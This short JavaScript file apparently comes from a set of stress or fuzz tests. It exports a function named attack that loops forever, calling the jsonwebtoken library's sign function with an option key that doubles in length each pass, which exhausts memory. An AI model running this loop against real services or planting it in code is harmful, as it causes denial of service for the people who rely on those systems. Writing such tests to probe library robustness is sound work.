// memory: options with ever longer names
import { sign } from "jsonwebtoken";
export default function attack() {
  for (let name = "x"; ; name += name) sign({}, "s".repeat(32), { [name]: 1 }, () => {});
}
